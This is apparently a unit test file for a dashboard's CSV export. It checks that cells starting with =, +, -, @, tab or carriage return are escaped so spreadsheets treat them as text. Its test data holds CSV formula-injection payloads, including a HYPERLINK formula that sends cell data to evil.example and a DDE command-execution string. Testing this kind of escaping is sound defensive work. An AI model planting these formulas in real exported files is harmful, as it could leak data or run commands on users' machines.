import { toCsv } from '../../src/ui/csv';

describe('the dashboard CSV of a query result', () => {
  const columns = [
    { name: 'address', type: 'text' },
    { name: 'value', type: 'jsonb' },
  ];

  it('writes text that a spreadsheet would run as a formula as text', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"open")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = toCsv({ columns, rows: hostile.map((h) => [h, null]), truncated: false });
    const cells = csv.split('\r\n').slice(1, -1);
    expect(cells.slice(0, 4)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",`,
      "'+1+cmd|' /C calc'!A0,",
      "'-2+3,",
      "'@SUM(A1:A9),",
    ]);
    expect(csv).toContain(`\r\n'\t=1+1,\r\n`);
    expect(csv).toContain(`\r\n"'\r=1+1",\r\n`); // quoted: it holds a CR
  });

  it('leaves numbers, booleans, JSON and plain text exact, RFC 4180 quoted', () => {
    const csv = toCsv({
      columns,
      rows: [
        ['aws_instance.web["a,b"]', { k: [-1, 'x'] }],
        [-5, true],
      ],
      truncated: false,
    });
    expect(csv).toBe(
      'address,value\r\n"aws_instance.web[""a,b""]","{""k"":[-1,""x""]}"\r\n-5,true\r\n',
    );
  });
});
